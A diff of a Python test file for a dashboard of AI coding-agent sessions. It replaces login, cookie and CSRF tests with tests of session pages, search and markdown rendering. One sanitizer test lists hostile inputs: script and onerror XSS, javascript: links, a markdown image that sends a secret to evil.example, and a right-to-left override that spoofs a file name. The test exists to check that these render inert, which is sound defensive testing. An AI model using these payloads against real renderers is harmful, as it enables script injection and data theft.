@@ -1,164 +1,194 @@
-"""The way into the dashboard: keys that work once, and the cookie they are changed for."""
+"""The pages of sessions: read from the first prompt to the last answer, and searched."""
 
-import msgspec
+import html
+import re
+from collections.abc import Iterator
+from itertools import count
+from pathlib import Path
+
 import pytest
+from dashboard_page import NOW, Browser, application, browser
 
-from serve.dashboard.page_context import LIVES_US, MOST, Flash, Flashes
-from store.home import config
-from store.home.http_access import KEY_LIVES_US, MOST_KEYS, SESSION_LIVES_S, Keys, Signer, signer
+from serve.dashboard.markdown import markdown, plain
+from serve.dashboard.session_pages import TURNS
+from serve.server.open_tenants import OpenTenants
+from store.home import tenant
+from store.home.config import Settings
+from store.home.instants import moment
+from store.log import commands
+from store.log.commands import Draft
+from store.log.event_kinds import Acted, Body, Prompted, SessionTold
+from store.log.event_log import EventLog
+from store.log.events import Event
 
-NOW = 1_800_000_000_000_000
-TOKEN = "the-owner's-token"
-
-
-def owners(token: str = TOKEN) -> Signer:
-    """Return the signer of the test's home, as a server that has just started makes it."""
-    return signer(token, config.load())
-
-
-def test_a_key_works_once():
-    keys = Keys()
-    key, ends = keys.make(NOW)
-    assert ends == NOW + KEY_LIVES_US
-    assert keys.take(key, NOW + 1)
-    assert not keys.take(key, NOW + 2)
+LIST = "/t/default/sessions"
+PAGE = "/t/default/session?session=s1"
+PROJECT = "acme/shop"
+MINUTE = 60_000_000
 
 
-def test_a_key_ends_after_two_minutes():
-    keys = Keys()
-    key, ends = keys.make(NOW)
-    assert not keys.take(key, ends)
+@pytest.fixture
+def tenants(tmp_path: Path) -> Iterator[OpenTenants]:
+    EventLog(tenant.tenant(tmp_path, "default").log, create=True).close()
+    opened = OpenTenants(Settings(tmp_path))
+    yield opened
+    opened.close()
 
 
-@pytest.mark.parametrize("sent", ["", "wrong", "é\ud800", "x" * 100_000])
-def test_a_wrong_key_opens_nothing_and_costs_no_other(sent):
-    keys = Keys()
-    key, _ = keys.make(NOW)
-    assert not keys.take(sent, NOW)
-    assert keys.take(key, NOW)
+@pytest.fixture
+def log(tenants: OpenTenants) -> EventLog:
+    return tenants.get("default").log
 
 
-def test_few_keys_wait_and_the_oldest_gives_way():
-    keys = Keys()
-    made = [keys.make(NOW)[0] for _ in range(MOST_KEYS + 1)]
-    assert [keys.take(key, NOW) for key in made] == [False, *[True] * MOST_KEYS]
+@pytest.fixture
+def owner(tenants: OpenTenants) -> Browser:
+    return browser(application(tenants))
 
 
-def test_a_key_is_kept_as_a_hash():
-    keys = Keys()
-    key, _ = keys.make(NOW)
-    assert key not in repr(vars(keys))
+def tell(log: EventLog, *bodies: Body, session: str = "s1") -> None:
+    """Append what the hooks of an agent told, a minute apart, the last one a minute ago."""
+    began = NOW - len(bodies) * MINUTE
+    ids = [f"{session}-{number}" for number in range(len(bodies))]
+    log.append(
+        [
+            Event(id_, began + place * MINUTE, body, id_, PROJECT, session, "codex", "agent")
+            for place, id_, body in zip(count(), ids, bodies, strict=False)
+        ]
+    )
 
 
-def test_a_session_is_the_owners_and_lasts_over_a_restart():
-    cookie = owners().value(NOW)
-    session = owners().session(cookie, NOW + 1)
-    assert session is not None
-    assert session.ends_at == NOW // 1_000_000 + SESSION_LIVES_S
+def ran(command: str, passed: bool | None, **more: str) -> Acted:
+    return Acted(tool="Bash", doing="run", command=command, passed=passed, **more)
 
 
-def test_a_session_ends_after_its_hours():
-    cookie = owners().value(NOW)
-    hours = SESSION_LIVES_S * 1_000_000
-    assert owners().session(cookie, NOW + hours - 1_000_000)
-    assert owners().session(cookie, NOW + hours) is None
+def told(said: str) -> SessionTold:
+    return SessionTold(stage="stopped", said=said)
 
 
-def test_a_new_token_of_the_owner_ends_every_session():
-    assert owners("another").session(owners().value(NOW), NOW) is None
-    assert owners("another").cookie != owners().cookie
+def words_of(page: str) -> str:
+    return " ".join(html.unescape(re.sub("<[^>]+>", " ", page)).split())
 
 
-def test_a_session_that_was_logged_out_opens_nothing_and_no_other_ends():
-    signing = owners()
-    cookie, other = signing.value(NOW), signing.value(NOW)
-    session = signing.session(cookie, NOW)
-    assert session is not None
-    signing.end(session, NOW)
-    assert signing.session(cookie, NOW) is None
-    assert signing.session(other, NOW) is not None
+def test_a_session_reads_from_its_first_prompt_to_its_last_answer(owner, log):
+    long = "The cookie had no max age.\n\n" + "It is set by the middleware now. " * 100 + "THE END"
+    edit = Acted(tool="Edit", doing="edit", files=("shop/cookies.py",))
+    tell(log, Prompted(prompt="Why do\nsessions expire?"), edit, told(long), Prompted(prompt="ok"))
+    page = owner.get(PAGE).text
+    assert page.index("sessions expire?") < page.index("THE END") < page.index('id="turn-2"')
+    assert "Why do\nsessions expire?" in page  # the lines as they were typed
+    assert "shop/cookies.py" in page and "2 Edited" in words_of(page)
 
 
-def test_a_session_that_was_logged_out_stays_so_after_a_restart_and_at_another_port():
-    at_another_port, cookie = owners(), owners().value(NOW)
-    session = at_another_port.session(cookie, NOW)
-    assert session is not None
-    owners().end(session, NOW)
-    assert owners().session(cookie, NOW) is None
-    assert at_another_port.session(cookie, NOW) is None
+def test_an_answer_is_laid_out_as_the_agent_wrote_it(owner, log):
+    lines = "## Done", "", "- **two** files", "- `one()`", "", "```", "x < y", "```"
+    table = "", "| a | b |", "|---|---|", "| 1 | 2 |"
+    answer = "\n".join(lines + table)
+    tell(log, Prompted(prompt="do it"), told(answer))
+    page = owner.get(PAGE).text
+    for shown in ("<p><strong>Done</strong></p>", "<li><strong>two</strong> files</li>"):
+        assert shown in page
+    for shown in ("<code>one()</code>", "<td>1</td>", "x &lt; y"):
+        assert shown in page
+    assert "##" not in page and "**" not in page
 
 
-def test_what_was_logged_out_is_kept_no_longer_than_its_cookie_lasts(home):
-    signing = owners()
-    later = NOW + SESSION_LIVES_S * 1_000_000
-    for now in (NOW, later):
-        session = signing.session(signing.value(now), now)
-        assert session is not None
-        signing.end(session, now)
-    kept = msgspec.json.decode((home / "sessions.json").read_bytes())
-    assert list(kept["ended"]) == [session.nonce]
+def test_a_commands_failure_is_shown_with_what_it_wrote_and_how_it_ended(owner, log):
+    failed = ran("pytest -q", False, effort="test", output="E assert 3 == 4")
+    passed = ran("pytest -q", True, effort="test", output="9 passed")
+    tell(log, Prompted(prompt="mend it"), failed, passed, ran("ls", None))
+    page = owner.get(PAGE).text
+    assert "E assert 3 == 4" in page and "9 passed" in page
+    shown = words_of(page)
+    assert "Commands 3, 1 failed test failed, then passed" in shown
+    assert "pytest -q failed E assert 3 == 4 pytest -q passed" in shown
 
 
-@pytest.mark.parametrize("damage", [b"", b"[1]", b"\xff", b'{"ended": {"a": "b"}}'])
-def test_a_damaged_list_of_ended_sessions_ends_all_until_the_next_login(home, damage):
-    cookie = owners().value(NOW)
-    home.mkdir()
-    (home / "sessions.json").write_bytes(damage)
-    assert owners().session(cookie, NOW + 1) is None
-    fresh = owners().value(NOW + 1_000_000)
-    assert owners().session(fresh, NOW + 1_000_000) is not None
-    assert owners().session(cookie, NOW + 1_000_000) is None
+def test_a_session_is_searched_for_words_wherever_they_stand(owner, log):
+    tell(
+        log,
+        Prompted(prompt="rename the Harbour module"),
+        told("Renamed."),
+        Prompted(prompt="and now run it"),
+        ran("make lighthouse", False, output="no rule for HARBOUR"),
+        Prompted(prompt="thanks"),
+    )
+    both = owner.get(f"{PAGE}&q=harbour").text
+    assert "2 turns have this word" in words_of(both)
+    assert "<mark>Harbour</mark>" in both and "<mark>HARBOUR</mark>" in both
+    assert 'id="turn-3"' not in both
+    one = owner.get(f"{PAGE}&q=harbour+lighthouse").text
+    assert "1 turn has all these words" in words_of(one) and 'id="turn-2"' in one
+    none = owner.get(f"{PAGE}&q=zanzibar")
+    assert none.status_code == 200 and "No turn has it" in none.text
 
 
-def test_what_was_logged_out_is_its_owners_file_alone(home):
-    signing = owners()
-    session = signing.session(signing.value(NOW), NOW)
-    assert session is not None
-    signing.end(session, NOW)
-    assert (home / "sessions.json").stat().st_mode & 0o077 == 0
+def test_a_long_session_is_read_a_part_at_a_time(owner, log):
+    tell(log, *(Prompted(prompt=f"prompt {number}.") for number in range(1, 2 * TURNS + 4)))
+    path, seen = PAGE, []
+    while path:
+        page = owner.get(path).text
+        seen += re.findall(r'auto">prompt (\d+)\.</p>', page)
+        links = dict(re.findall(r'rel="(next|prev)" href="([^"]+)"', page))
+        path = html.unescape(links.get("next", ""))
+    assert seen == [str(number) for number in range(1, 2 * TURNS + 4)]
+    assert "from=" in links["prev"]
+    last = re.search(r'href="([^"]+)">Last</a>', owner.get(PAGE).text)
+    assert last and owner.get(html.unescape(last[1])).text == page
+    assert owner.get(f"{PAGE}&from=9999").status_code == 200
 
 
-def test_no_byte_of_a_cookie_can_be_changed():
-    signing = owners()
-    cookie = signing.value(NOW)
-    for place in range(len(cookie)):
-        for put in "A9.-":
-            changed = cookie[:place] + put + cookie[place + 1 :]
-            assert changed == cookie or signing.session(changed, NOW) is None
+def test_a_sessions_commits_stand_beside_it(owner, log):
+    tell(log, Prompted(prompt="set the cookie's age"), told("Done."))
+    for text, at, project in (
+        ("Set the max age of session cookies", NOW - MINUTE, PROJECT),
+        ("Half an hour later: mend its test", NOW + 30 * MINUTE, PROJECT),
+        ("Made the day before", NOW - 24 * 60 * MINUTE, PROJECT),
+        ("Made elsewhere", NOW - MINUTE, "acme/other"),
+    ):
+        facts = {"kind": "bugfix", "source": "git", "project": project}
+        draft = Draft(content=text, created_at=moment(at), **facts)
+        commands.record(log, draft, NOW)
+    page = words_of(owner.get(PAGE).text)
+    assert "Set the max age of session cookies" in page and "mend its test" in page
+    assert "the day before" not in page and "elsewhere" not in page
 
 
-@pytest.mark.parametrize("sent", [None, "", ".", "..", "...", "9.9.9", "é.\ud800.x", "1" * 10_000])
-def test_what_is_no_cookie_is_nobody(sent):
-    assert owners().session(sent, NOW) is None
+def test_the_list_says_what_came_of_a_session(owner, log):
+    tell(log, Prompted(prompt="set the age"), ran("make", False), told("**First** answer"))
+    answers = told("## Result\n\nThe age of `cookies` is a week."), SessionTold(stage="ended")
+    tell(log, Prompted(prompt="which age?"), *answers, session="s2")
+    page = words_of(owner.get(LIST).text)
+    assert "1 step · 1 failed First answer" in page
+    assert "Result The age of cookies is a week." in page
 
 
-def test_each_session_has_a_csrf_token_of_its_own_and_no_cookie_tells_it():
-    signing = owners()
-    first, second = (signing.value(NOW) for _ in range(2))
-    one, other = (signing.session(cookie, NOW) for cookie in (first, second))
-    assert one is not None and other is not None
-    assert one.csrf != other.csrf
-    assert one.csrf not in first
-    assert first.rpartition(".")[2] != one.csrf
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script><img src=x onerror=alert(1)>",
+        "![shot](https://evil.example/?q=secret)",
+        "[click](javascript:alert(1)) [here](https://evil.example) <https://auto.example>",
+        "[a]: https://evil.example\n\n[text][a]",
+        '```html"><script>\n<script>alert(1)</script>\n```',
+        "| <b>a</b> |\n|---|\n| [x](https://evil.example) |",
+        "\x1b[31mred \u202egnp.exe",
+    ],
+)
+def test_markdown_loads_nothing_and_leads_nowhere(text: str):
+    shown = markdown(text, ["alert"])
+    tags = set(re.findall(r"<([a-z0-9]+)", shown))
+    assert tags <= set("p strong em code pre mark span table thead tbody tr th td".split())
+    assert not re.search("[\x00-\x08\x1b\u202a-\u202e]", shown)
+    assert "src=" not in re.sub("&lt;.*?&gt;", "", shown) and "href=" not in shown
 
 
-def test_a_cookie_tells_nothing_of_the_token():
-    signing = owners()
-    assert TOKEN not in signing.value(NOW) + signing.cookie
+def test_a_links_address_stands_beside_its_words():
+    assert "the docs <span" in markdown("[the docs](https://docs.example/a)")
+    assert "(https://docs.example/a)" in markdown("[the docs](https://docs.example/a)")
+    assert "cookies.py" in markdown("[cookies.py](shop/cookies.py)")
+    assert "(" not in markdown("[cookies.py](shop/cookies.py)")
 
 
-def test_a_flash_is_found_by_its_name_for_a_while():
-    flashes = Flashes()
-    name = flashes.keep(Flash("done"), NOW)
-    assert flashes.get(name, NOW + 1) == Flash("done")
-    assert flashes.get(name, NOW + LIVES_US) is None
-    assert flashes.get("<b>", NOW) is None
-    assert flashes.get(None, NOW) is None
-
-
-def test_only_so_many_flashes_are_kept():
-    flashes = Flashes()
-    first = flashes.keep(Flash("first"), NOW)
-    for _ in range(MOST):
-        flashes.keep(Flash("more"), NOW)
-    assert flashes.get(first, NOW) is None
+def test_plain_gives_one_line_without_marks():
+    assert plain("Both **pass**.\n\n## Files\n\n1. `a.py`\n2. b") == "Both pass. Files a.py b"
+    assert len(plain("word " * 500)) <= 240
